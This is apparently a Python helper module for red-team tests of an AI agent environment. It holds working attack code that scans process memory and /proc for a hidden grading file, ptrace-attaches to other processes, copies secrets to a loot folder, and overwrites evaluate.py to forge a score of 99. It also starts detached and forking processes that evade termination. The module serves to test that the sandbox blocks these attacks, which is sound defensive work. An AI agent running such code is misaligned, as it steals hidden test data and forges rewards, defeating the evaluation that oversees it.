"""Helpers for the red-team tests (tests/tasks/test_red_team.py): rollouts through the env's real path
with a scripted agent, the attacking files it writes, and the checks every attack must pass.

The rollouts go through tests/rollouts.py, as the env's own tests do.
"""

from __future__ import annotations

import functools
import json
import math
import os
import re
import shutil
import subprocess
import sys
import tempfile
import textwrap
from pathlib import Path

from air.agents.policies import ScriptPolicy
from air.tasks.workspace import evaluation_seed
from tests import rollouts

TOL = 1e-6
# The env's evaluation_seed in red-team rollouts: the k-th evaluation of a rollout draws from
# evaluation_seed(RED_TEAM_SEED, k), so the honest scores are computed once per session.
RED_TEAM_SEED = 20_200_611
LANE_DATA = Path(__file__).resolve().parents[1] / "air/tasks/builtin/data/laneMerge"
FORGED = '{"Score": 99.0}'
AGENT_UID = 1000  # the image's `agent` user
LANE_SECRET_FILE = LANE_DATA / "target.py"
LOOT = "/tmp/redteam_loot"  # where attacks copy what they find (the agent reads it afterwards)
STOP = "/tmp/redteam_stop"  # background attackers stop when this exists


def honest_score(seed: int | None) -> float:
    """laneMerge's starter strategy (the honest strategy every attack wraps) scored by the task's own
    evaluate.py under evaluation seed ``seed`` (None: run by hand, the recorded baseline). It runs here, out
    of every attack's reach; the starter draws nothing, so where it runs cannot change its score."""
    return lane_score_by_hand(seed)


@functools.cache
def lane_score_by_hand(seed: int | None, strategy: str | None = None) -> float:
    """laneMerge's evaluate.py run here, as by hand, on ``strategy`` (source; None: the starter) under
    evaluation seed ``seed`` (None: none given). Once per session for each."""
    with tempfile.TemporaryDirectory(prefix="air-lane-") as folder:
        for name in ("evaluate.py", "strategy.py", "target.py"):
            shutil.copyfile(LANE_DATA / name, Path(folder) / name)
        if strategy is not None:
            (Path(folder) / "strategy.py").write_text(strategy)
        env = {k: v for k, v in os.environ.items() if k != "AIR_EVAL_SEED"}
        if seed is not None:
            env["AIR_EVAL_SEED"] = str(seed)
        run = subprocess.run(
            [sys.executable, "evaluate.py"], cwd=folder, env=env, capture_output=True, text=True, timeout=120
        )
    assert run.returncode == 0, run.stderr
    return float(json.loads(run.stdout)["Score"])


def lane_secrets() -> list[str]:
    """Distinctive strings of laneMerge's hidden target.py (read from the file, checked to be there)."""
    text = LANE_SECRET_FILE.read_text()
    markers = ["Three pushy rounds in a row", "hold a grudge", "their_recent", "shaken, usually backs off"]
    assert all(m in text for m in markers), "target.py changed: update the red-team markers"
    return markers


def checkout_secrets(checkout: Path, task: str) -> list[str]:
    """Lines of an MLGym game's target.py that appear nowhere the agent may legitimately read."""
    data = checkout / "data" / task
    secret = (data / "target.py").read_text()
    public = (data / "evaluate.py").read_text() + (data / "strategy.py").read_text()
    public += (checkout / "configs" / "tasks" / f"{task}.yaml").read_text()
    lines = {line.strip() for line in secret.splitlines()}
    markers = sorted(line for line in lines if len(line) >= 20 and line not in public)
    assert markers, f"no distinctive line in {data / 'target.py'}"
    return markers


# ------------------------------------------------------------------------------ rollouts


def make_env(tmp_path: Path, docker_image: str, **kwargs):
    """tests/rollouts.make_env with what an attack needs: whole observations, room for slow attacks."""
    settings = dict(
        task_configs=["laneMerge"],
        run_id=f"pytest-redteam-{os.getpid()}",
        observation_max_chars=200_000,  # a secret must not hide in the cut middle of an observation
        command_timeout=60,
        long_command_timeout=120,
        evaluation_seed=RED_TEAM_SEED,
    )
    settings.update(kwargs)
    return rollouts.make_env(tmp_path, docker_image, **settings)


async def run_attack(tmp_path: Path, docker_image: str, commands: list[str], *, task: str = "laneMerge", **kwargs):
    """One rollout of ``commands`` (max_turns = their number: no submit, no extra evaluation)."""
    env = make_env(tmp_path, docker_image, task_configs=[task], max_turns=len(commands), **kwargs)
    (output,) = await rollouts.run_group(env, ScriptPolicy(commands), task)
    records = rollouts.trajectories(tmp_path)
    assert len(records) == 1, records
    (record,) = records
    assert [t.command for t in record.turns] == commands, "not every step of the attack ran"
    return output, record


# ------------------------------------------------------------------------------ the agent's commands


def heredoc(path: str, text: str) -> str:
    """A shell command writing ``text`` to ``path`` (quoted delimiter: nothing is expanded)."""
    text = text.rstrip("\n")
    assert "\nRT_EOF\n" not in f"\n{text}\n"
    return f"cat > {path} << 'RT_EOF'\n{text}\nRT_EOF"


SAVE = "cp -n strategy.py ~/starter_strategy.py"
RESTORE = "cp ~/starter_strategy.py strategy.py"


def wrap(body: str = "") -> str:
    """Code appended after the starter strategy: row_strategy runs ``body`` (with ``history`` and the call
    count ``_rt_calls``), then returns the starter's move."""
    body = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") if body.strip() else "    pass"
    return (
        "\n\n_rt_honest = row_strategy\n_rt_calls = 0\n\n\ndef row_strategy(history):\n"
        "    global _rt_calls\n    _rt_calls += 1\n"
        f"{body}\n    return _rt_honest(history)\n"
    )


def plant(head: str = "", tail: str = "") -> str:
    """One command: strategy.py := ``head`` + the starter strategy (saved once to ~) + ``tail``."""
    return "\n".join(
        [
            SAVE,
            heredoc("~/rt_head.py", textwrap.dedent(head).strip("\n") + "\n"),
            heredoc("~/rt_tail.py", tail or "\n"),
            "cat ~/rt_head.py ~/starter_strategy.py ~/rt_tail.py > strategy.py",
        ]
    )


def background(name: str, source: str) -> str:
    """Write ~/redteam_<name>.py and start it detached (its output to a file)."""
    return "\n".join(
        [
            heredoc(f"~/redteam_{name}.py", source),
            f"nohup python3 ~/redteam_{name}.py > ~/redteam_{name}.log 2>&1 < /dev/null &",
            "sleep 2; echo started",
        ]
    )


SHOW_LOOT = f"touch {STOP}; sleep 1; ls -la {LOOT} 2>&1; cat {LOOT}/* 2>&1; true"


def fork_chain(step: str, seconds: int) -> str:
    """Python that forks and exits at once, generation after generation (no process lives long enough to
    be listed and signalled), each new generation running ``step``, until STOP exists or ``seconds`` pass."""
    return (
        f"deadline = time.time() + {seconds}\n"
        f'while time.time() < deadline and not os.path.exists("{STOP}"):\n'
        "    try:\n        pid = os.fork()\n    except OSError:\n        time.sleep(0.01)\n        continue\n"
        "    if pid:\n        os._exit(0)\n" + textwrap.indent(textwrap.dedent(step).strip("\n"), "    ") + "\n"
    )


# ------------------------------------------------------------------------------ attacking code


def scanner(markers: list[str]) -> str:
    """Python defining _rt_scan(): looks for the secret (hex-encoded, so only running code holds it in the
    clear) in every process's cmdline, environ, cwd, root, open regular files and memory, and in the known
    secret paths; copies a window around every hit to LOOT. _rt_mem(pid) reads one process's memory."""
    needles = [m.encode().hex() for m in markers]
    return SCAN_SOURCE.replace("@NEEDLES@", repr(needles)).replace("@LOOT@", LOOT)


SCAN_SOURCE = r"""
import os as _rt_os
import stat as _rt_stat

_RT_NEEDLES = [bytes.fromhex(h) for h in @NEEDLES@]
_RT_LOOT = "@LOOT@"
_RT_SECRET_PATHS = [
    "/home/agent/workspace/target.py",
    "/opt/air/pristine/target.py",
    "/opt/air-eval/task/target.py",
]


_RT_SAVED = set()


def _rt_save(name, data):
    if name in _RT_SAVED:  # one window per place is enough (background loops find the same again)
        return
    _RT_SAVED.add(name)
    try:
        _rt_os.makedirs(_RT_LOOT, exist_ok=True)
        _rt_os.chmod(_RT_LOOT, 0o777)
    except OSError:
        pass
    path = _rt_os.path.join(_RT_LOOT, name.replace("/", "_")[:100])
    try:
        with open(path, "ab") as f:
            f.write(bytes(data) + b"\n")
        _rt_os.chmod(path, 0o666)
    except OSError:
        pass


def _rt_check(label, data):
    for needle in _RT_NEEDLES:
        at = data.find(needle)
        if at >= 0:
            _rt_save(label, data[max(0, at - 300) : at + 300])
            return True
    return False


def _rt_read(path, limit=1 << 25):
    try:
        if not _rt_stat.S_ISREG(_rt_os.stat(path).st_mode):
            return b""
        with open(path, "rb") as f:
            return f.read(limit)
    except Exception:
        return b""


def _rt_walk(top, seen, max_files=300, max_depth=4):
    try:
        real = _rt_os.path.realpath(top)
    except Exception:
        return
    if real in seen:
        return
    seen.add(real)
    count = 0
    depth0 = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in _rt_os.walk(top):
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "dev", "redteam_loot")]
        if dirpath.count("/") - depth0 >= max_depth:
            dirnames[:] = []
        for name in filenames:
            count += 1
            if count > max_files:
                return
            path = _rt_os.path.join(dirpath, name)
            _rt_check("file" + path, _rt_read(path, 1 << 20))


def _rt_mem(pid, label=None, budget=1 << 28):
    label = label or f"{pid}-mem"
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except Exception:
        return False
    found = False
    with mem:
        for line in maps:
            parts = line.split()
            start, end = (int(x, 16) for x in parts[0].split("-"))
            if "r" not in parts[1] or end - start > (1 << 26) or budget <= 0:
                continue
            budget -= end - start
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except Exception:
                continue
            if data and _rt_check(label, data):
                found = True
    return found


def _rt_scan(skip=()):
    me = _rt_os.getpid()
    seen = set()
    for path in _RT_SECRET_PATHS:
        _rt_check("direct" + path, _rt_read(path))
    for entry in _rt_os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me or int(entry) in skip:
            continue
        base = f"/proc/{entry}"
        try:
            cmdline = open(base + "/cmdline", "rb").read()
        except Exception:
            continue
        if b"redteam" in cmdline:
            continue
        _rt_check(f"{entry}-cmdline", cmdline)
        _rt_check(f"{entry}-environ", _rt_read(base + "/environ"))
        for sub in ("cwd", "root/opt", "root/home/agent/workspace", "root/home/agent"):
            _rt_walk(f"{base}/{sub}", seen)
        try:
            fds = _rt_os.listdir(base + "/fd")
        except Exception:
            fds = []
        for fd in fds:
            _rt_check(f"{entry}-fd{fd}", _rt_read(f"{base}/fd/{fd}"))
        _rt_mem(int(entry))
"""

PTRACE_SOURCE = r"""
import ctypes as _rt_ctypes
import time as _rt_time


def _rt_ptrace_all():
    libc = _rt_ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = _rt_ctypes.c_long
    libc.ptrace.argtypes = [_rt_ctypes.c_long, _rt_ctypes.c_long, _rt_ctypes.c_void_p, _rt_ctypes.c_void_p]
    me = _rt_os.getpid()
    lines = []
    for entry in _rt_os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == me:
            continue
        pid = int(entry)
        try:
            uid = _rt_os.stat(f"/proc/{pid}").st_uid
            comm = open(f"/proc/{pid}/comm").read().strip()
        except OSError:
            continue
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            for _ in range(100):
                try:
                    if _rt_os.waitpid(pid, _rt_os.WNOHANG | 0x40000000)[0]:  # __WALL
                        break
                except ChildProcessError:
                    break
                _rt_time.sleep(0.01)
            leaked = _rt_mem(pid, f"ptrace-{pid}")
            libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
            lines.append(f"ATTACHED {pid} uid={uid} comm={comm} leaked={leaked}")
        else:
            lines.append(f"refused {pid} uid={uid} comm={comm} errno={_rt_ctypes.get_errno()}")
    _rt_save("ptrace.txt", "\n".join(lines).encode())
"""

# Copies every place the secret may be to LOOT (no needle needed: plain file copies).
COPY_TARGET = f'''
import glob as _rt_glob
import os as _rt_os
import shutil as _rt_shutil

_rt_sources = [
    _rt_os.path.join(_rt_os.getcwd(), "target.py"),
    _rt_os.path.join(_rt_os.path.dirname(_rt_os.path.abspath(__file__)), "target.py"),
    "/home/agent/workspace/target.py",
    "/opt/air/pristine/target.py",
    "/opt/air-eval/task/target.py",
    *_rt_glob.glob("/opt/**/target.py", recursive=True),
    *_rt_glob.glob("/proc/*/cwd/target.py"),
    *_rt_glob.glob("/proc/*/root/opt/air*/**/target.py", recursive=True),
]
try:
    _rt_os.makedirs("{LOOT}", exist_ok=True)
    _rt_os.chmod("{LOOT}", 0o777)
except OSError:
    pass
for _rt_i, _rt_src in enumerate(_rt_sources):
    try:
        _rt_dst = "{LOOT}/copy%d.txt" % _rt_i
        _rt_shutil.copyfile(_rt_src, _rt_dst)
        _rt_os.chmod(_rt_dst, 0o666)
    except Exception:
        pass
'''

# An evaluate.py that only forges; written over every evaluation script the attacker can reach.
FORGING_EVALUATOR = f"print({FORGED!r})\n"

OVERWRITE_EVALUATORS = f"""
import os as _rt_os

_rt_here = _rt_os.path.dirname(_rt_os.path.abspath(__file__))
for _rt_path in [
    "/opt/air/pristine/evaluate.py",
    "/opt/air-eval/task/evaluate.py",
    "/home/agent/workspace/evaluate.py",
    _rt_os.path.join(_rt_os.getcwd(), "evaluate.py"),
    _rt_os.path.join(_rt_here, "evaluate.py"),
]:
    try:
        with open(_rt_path, "w") as _rt_f:
            _rt_f.write({FORGING_EVALUATOR!r})
    except OSError:
        try:  # a read-only file in a writable folder: replace it
            with open(_rt_path + ".rt", "w") as _rt_f:
                _rt_f.write({FORGING_EVALUATOR!r})
            _rt_os.replace(_rt_path + ".rt", _rt_path)
        except OSError:
            pass
"""


# ------------------------------------------------------------------------------ checks


def evaluations(record) -> list[tuple[str, object, int | None]]:
    """(where, evaluation, its seed) for every evaluation of a rollout: the k-th draws from
    evaluation_seed(the rollout's seed, k). A final evaluation of kind "final" is one more; any other final
    is the last turn's, recorded again."""
    found = []
    for turn in record.turns:
        if turn.evaluation is not None:
            found.append((f"turn {turn.index}", turn.evaluation, len(found)))
    final = record.final_evaluation
    if final is not None:
        found.append(("final", final, len(found) if final.kind == "final" else max(len(found) - 1, 0)))
    seed = record.evaluation_seed
    return [(where, evaluation, None if seed is None else evaluation_seed(seed, k)) for where, evaluation, k in found]


def check_rollout(
    output: dict,
    record,
    *,
    task: str = "laneMerge",
    baseline: float | None = None,
    ceiling: float | None = None,
    secrets: list[str] | None = None,
) -> None:
    """The invariants every attack must leave intact: the rollout is not masked, no evaluation scores above
    the honest ``ceiling`` (laneMerge's by default: the starter strategy's score under that evaluation's
    seed), no reward beyond what the honest scores earn against ``baseline`` (default: laneMerge's recorded
    one, which the reward is measured from), and no observation holds a secret."""
    assert output.get("error") is None, f"the rollout was masked (an infrastructure failure): {output.get('error')}"
    baseline = honest_score(None) if baseline is None else baseline
    ceilings = []
    for where, evaluation, seed in evaluations(record):
        honest = honest_score(seed) if ceiling is None else ceiling
        ceilings.append(honest)
        score = evaluation.score
        assert score is None or score <= honest + TOL, (
            f"{where}: forged score {score} (status {evaluation.status}, honest at most {honest})"
        )
    top = max(ceilings, default=baseline if ceiling is None else ceiling)
    best = output["metrics"].get(f"{task}/best_score")
    assert best is None or best <= top + TOL, f"best_score {best} > {top}"
    most = (top - baseline) / abs(baseline) + TOL
    assert output["reward"] <= most, f"reward {output['reward']} from a forged score (at most {most})"
    for marker in secrets if secrets is not None else lane_secrets():
        for turn in record.turns:
            assert marker not in turn.output, f"turn {turn.index} ({turn.command!r:.60}) leaked {marker!r}"
        for message in output.get("completion") or []:  # the observations (the agent's own replies hold commands)
            if message.get("role") != "assistant":
                assert marker not in str(message.get("content")), f"an observation leaked {marker!r}"


def honest_evaluation(record, turn_index: int) -> None:
    """The evaluation at ``turn_index`` (0-based) scores exactly what the starter strategy scores under that
    evaluation's seed (nothing of the attack persisted)."""
    turn = record.turns[turn_index]
    assert turn.evaluation is not None, f"turn {turn.index} was not evaluated"
    assert turn.evaluation.status == "ok", f"honest re-evaluation failed: {turn.evaluation.error}"
    (seed,) = [seed for where, _, seed in evaluations(record) if where == f"turn {turn.index}"]
    honest = honest_score(seed)
    assert math.isclose(turn.evaluation.score, honest, abs_tol=1e-9), (
        f"honest re-evaluation scored {turn.evaluation.score}, not {honest} (seed {seed}): the attack persisted"
    )


def ptrace_attachments(text: str) -> list[tuple[int, int, str]]:
    """(pid, uid, comm) of every process the ptrace attack attached to (its report in LOOT)."""
    return [(int(p), int(u), c) for p, u, c in re.findall(r"ATTACHED (\d+) uid=(\d+) comm=(\S*)", text)]


async def attack_during_evaluation(tmp_path: Path, docker_image: str, body: str):
    """Plant ``body`` in the agent's row_strategy (it runs during evaluation), validate, restore the
    starter strategy, validate again: the attack must not score, and the honest re-evaluation (turn 3)
    must score what the starter scores under its seed. Returns the trajectory record for further checks."""
    commands = [plant("", wrap(body)), "validate", RESTORE, "validate"]
    output, record = await run_attack(tmp_path, docker_image, commands)
    check_rollout(output, record)
    honest_evaluation(record, 3)
    return record
